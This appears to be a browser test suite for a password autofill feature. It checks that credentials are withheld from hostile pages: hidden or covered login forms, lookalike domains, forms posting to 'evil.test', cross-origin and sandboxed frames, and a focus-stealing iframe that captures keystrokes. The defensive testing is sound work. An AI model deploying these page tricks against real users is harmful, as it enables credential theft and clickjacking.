"""Pages that want what is not theirs: attacks on filling, and what each gets: nothing.

Each has a control: the same page without the trick is filled, or the same trick
works on a filler that does not look.
"""

from __future__ import annotations

from collections.abc import Awaitable, Callable

import pytest
from playwright.async_api import Page

from konnector_runner.autofill.matching import MatchMode
from konnector_runner.autofill.plan import Refusal
from tests.runner.autofill.world import (
    BANK,
    LOGIN,
    SECRET,
    USER,
    Source,
    Tell,
    World,
    fill_naively,
    values,
)

pytestmark = pytest.mark.browser

_EVIL = "https://evil.test"
_LOGIN = LOGIN + "</form>"

# html, address, refusal: nothing is written and nothing is released
_PAGES: dict[str, tuple[str, str, Refusal]] = {
    "sign-up": (
        _LOGIN.replace("Log in", "Create account").replace(
            "<form>", "<form><h1>Sign up</h1>"
        ),
        BANK + "/",
        Refusal.SIGN_UP,
    ),
    "off the page": (
        f"<div style='position:absolute;left:-5000px'>{_LOGIN}</div>",
        BANK + "/",
        Refusal.UNSEEN,
    ),
    "see-through": (
        f"<div style='opacity:0'>{_LOGIN}</div>", BANK + "/", Refusal.UNSEEN,
    ),
    "see-through body": (
        f"<style>body {{ opacity: .01 }}</style>{_LOGIN}", BANK + "/", Refusal.UNSEEN,
    ),
    "one pixel": (
        "<style>input { width: 1px; height: 1px; padding: 0; border: 0 }</style>"
        + _LOGIN,
        BANK + "/",
        Refusal.UNSEEN,
    ),
    "clipped": (
        f"<div style='clip-path: inset(50%)'>{_LOGIN}</div>",
        BANK + "/",
        Refusal.UNSEEN,
    ),
    "in a box without height": (
        f"<div style='height:0;overflow:hidden'>{_LOGIN}</div>",
        BANK + "/",
        Refusal.UNSEEN,
    ),
    "under a cover": (
        f"{_LOGIN}<div style='position:fixed;inset:0;background:#fff'>Win!</div>",
        BANK + "/",
        Refusal.COVERED,
    ),
    "see-through for ever, whatever has the focus": (
        f"<style>#u, #p {{ opacity: 0 !important }}</style>{_LOGIN}",
        BANK + "/",
        Refusal.UNSEEN,
    ),
    "see-through for ever, wrapped by a component": (
        ("<x-login></x-login><script>document.querySelector('x-login').attachShadow("
        f"{{ mode: 'open' }}).innerHTML = `<div style=opacity:0>{LOGIN}`</script>"),
        BANK + "/",
        Refusal.UNSEEN,
    ),
    "under a cover that lets clicks through, written before but drawn after": (
        ("<b style='position:fixed;inset:0;background:#fff;pointer-events:none;"
        f"z-index:1'>Win!</b><div style='position:relative'>{_LOGIN}</div>"),
        BANK + "/",
        Refusal.COVERED,
    ),
    "under a cover that lets clicks through, behind a field that is not placed": (
        ("<i style='position:fixed;inset:0;background:#fff;pointer-events:none'>.</i>"
        f"<div>{_LOGIN}</div>"),
        BANK + "/",
        Refusal.COVERED,
    ),
    "over http": (_LOGIN, "http://bank.example/", Refusal.NOT_HTTPS),
    "another site": (_LOGIN, _EVIL + "/", Refusal.OTHER_SITE),
    "a longer name": (_LOGIN, "https://bank.example.evil.test/", Refusal.OTHER_SITE),
    "a name that ends alike": (_LOGIN, "https://evilbank.example/", Refusal.OTHER_SITE),
    "a name in other letters": (
        _LOGIN, "https://xn--bnk-7cd.example/", Refusal.OTHER_SITE,
    ),
    "a name with a dot at its end": (
        _LOGIN, "https://bank.example./", Refusal.OTHER_SITE,
    ),
    "sent to another site": (
        _LOGIN.replace("<form>", f"<form action={_EVIL}/take>"),
        BANK + "/",
        Refusal.SENT_ELSEWHERE,
    ),
    "sent to another site by its button": (
        _LOGIN.replace("<button>", f"<button formaction={_EVIL}/take>"),
        BANK + "/",
        Refusal.SENT_ELSEWHERE,
    ),
    "sent to another site by the page's base": (
        f"<base href={_EVIL}/>" + _LOGIN.replace("<form>", "<form action=take>"),
        BANK + "/",
        Refusal.SENT_ELSEWHERE,
    ),
    "sent over http": (
        _LOGIN.replace("<form>", "<form action=http://bank.example/take>"),
        BANK + "/",
        Refusal.SENT_ELSEWHERE,
    ),
}  # fmt: skip

_FRAME = "<iframe width=600 height=300"

# the page that holds a frame, the frame's address, refusal
_FRAMES: dict[str, tuple[str, str, Refusal]] = {
    "a stranger's page frames the bank": (
        _EVIL + "/", f"<iframe width=600 height=300 src={BANK}/f>", Refusal.OTHER_SITE,
    ),
    "the bank frames a stranger": (
        BANK + "/", f"<iframe width=600 height=300 src={_EVIL}/f>",
        Refusal.CROSS_ORIGIN_FRAME,
    ),
    "the bank frames a sibling": (
        BANK + "/", "<iframe width=600 height=300 src=https://a.bank.example/f>",
        Refusal.CROSS_ORIGIN_FRAME,
    ),
    "sandboxed": (
        BANK + "/", f"<iframe sandbox=allow-scripts width=600 height=300 src={BANK}/f>",
        Refusal.SANDBOXED,
    ),
    "sandboxed with its origin": (
        BANK + "/", f"{_FRAME} sandbox='allow-scripts allow-same-origin' src={BANK}/f>",
        Refusal.SANDBOXED,
    ),
    "written into the frame's attribute": (
        BANK + "/", f'<iframe width=600 height=300 srcdoc="{_LOGIN}"></iframe>',
        Refusal.NO_ORIGIN,
    ),
    "a frame without size": (
        BANK + "/", f"<iframe width=2 height=2 src={BANK}/f>", Refusal.HIDDEN_FRAME,
    ),
    "a see-through frame": (
        BANK + "/", f"<iframe style='opacity:0' width=600 height=300 src={BANK}/f>",
        Refusal.HIDDEN_FRAME,
    ),
}  # fmt: skip


def test_no_page_that_hides_or_pretends_is_filled(tell: Tell) -> None:
    """Nothing is written, and nothing was released for it; the control is filled."""

    async def story(world: World) -> None:
        control = Source()
        page = await world.visit(_LOGIN)
        assert (await world.fill(page, control)).refusal is None
        assert await values(page) == [USER, SECRET]
        assert len(control.released) == 2
        for name, (html, url, refusal) in _PAGES.items():
            await _expect_nothing(world, await world.visit(html, url), name, refusal)

    tell(story)


def test_no_frame_of_another_kind_is_filled(tell: Tell) -> None:
    """Frames of strangers, siblings, sandboxes and without a site get nothing."""

    async def story(world: World) -> None:
        for origin in (BANK, _EVIL, "https://a.bank.example"):
            world.pages[origin + "/f"] = (_LOGIN, {})
        for name, (url, html, refusal) in _FRAMES.items():
            page = await world.visit(html, url)
            await page.frames[1].wait_for_selector("#p", state="attached")
            await _expect_nothing(world, page, name, refusal)

    tell(story)


def test_no_sandboxed_page_and_no_page_without_a_site_is_filled(tell: Tell) -> None:
    """A site may give up its origin by a header; data: and blob: never had one."""

    async def story(world: World) -> None:
        page = await world.visit(
            _LOGIN, Content_Security_Policy="sandbox allow-scripts"
        )
        await _expect_nothing(world, page, "by a header", Refusal.NO_ORIGIN)
        for url in (f"data:text/html,{_LOGIN}", "about:blank"):
            await page.goto(url)
            await page.set_content(_LOGIN)
            await _expect_nothing(world, page, url[:5], Refusal.NO_ORIGIN)

    tell(story)


async def _expect_nothing(
    world: World, page: Page, name: str, refusal: Refusal
) -> None:
    source = Source()
    report = await world.fill(page, source)
    assert report.refusal is refusal, (name, report)
    assert source.released == [], name
    assert await values(page) == [], name
    await fill_naively(page)
    assert SECRET in await values(page), f"{name}: the naive filler must be taken in"


_Trick = Callable[[Page], Awaitable[object]]
_RACES: dict[str, tuple[_Trick, Refusal | None]] = {
    "the address changes": (
        lambda page: page.evaluate("history.pushState(0, '', '/other')"),
        Refusal.OTHER_SITE,
    ),
    "a cover comes": (
        lambda page: page.evaluate(
            "document.body.insertAdjacentHTML('beforeend',"
            " '<div style=\"position:fixed;inset:0;background:red\">x</div>')"
        ),
        Refusal.COVERED,
    ),
    "the field becomes see-through": (
        lambda page: page.evaluate("document.body.style.opacity = 0"),
        Refusal.UNSEEN,
    ),
    "the field goes": (
        lambda page: page.evaluate("p.remove()"),
        None,  # what is left is the first of two steps, and that is done
    ),
}


def test_what_changes_between_the_look_and_the_writing_is_noticed(tell: Tell) -> None:
    """The page acts in the moment in which the password has just been released."""

    async def story(world: World) -> None:
        for name, (trick, refusal) in _RACES.items():
            page = await world.visit(_LOGIN, BANK + "/login")
            seen = await page.query_selector("#p")
            assert seen is not None
            source = Source(lambda trick=trick, page=page: trick(page))  # type: ignore[misc]
            report = await world.fill(
                page, source, saved=BANK + "/login", mode=MatchMode.EXACT
            )
            assert SECRET not in await values(page), name
            assert report.refusal is refusal, (name, report)
            # What was found once is set, whatever happened meanwhile.
            await seen.evaluate("(e, secret) => { e.value = secret }", SECRET)
            there = await seen.evaluate("e => e.isConnected")
            assert (SECRET in await values(page)) is there, name

    tell(story)


_THIEF = """<input id=stolen><script>
setInterval(() => stolen.focus(), 0)</script>"""


def test_a_frame_that_takes_the_focus_gets_no_letter(tell: Tell) -> None:
    """Keys go where the focus is, so a stranger's frame that takes it reads them.

    The control types with keys, and the frame gets some of them.
    """

    async def story(world: World) -> None:
        world.pages[_EVIL + "/f"] = (_THIEF, {})
        html = _LOGIN + f"<iframe src={_EVIL}/f></iframe>"
        page = await world.visit(html)
        thief = page.frames[1]
        await thief.wait_for_selector("#stolen")

        await world.fill(page)
        assert await thief.evaluate("stolen.value") == ""

        await page.focus("#p")
        await page.keyboard.type("x" * 40, delay=5)
        assert "x" in await thief.evaluate("stolen.value")

    tell(story)


def test_a_click_that_the_page_makes_fills_nothing(tell: Tell) -> None:
    """There is nothing of ours in the page to click: filling starts outside."""

    async def story(world: World) -> None:
        page = await world.visit(
            _LOGIN + "<script>for (const e of document.querySelectorAll('*'))"
            "{ e.click(); e.focus?.() }</script>"
        )
        assert await values(page) == []
        assert await page.evaluate("typeof globalThis.clisk") == "undefined"

    tell(story)
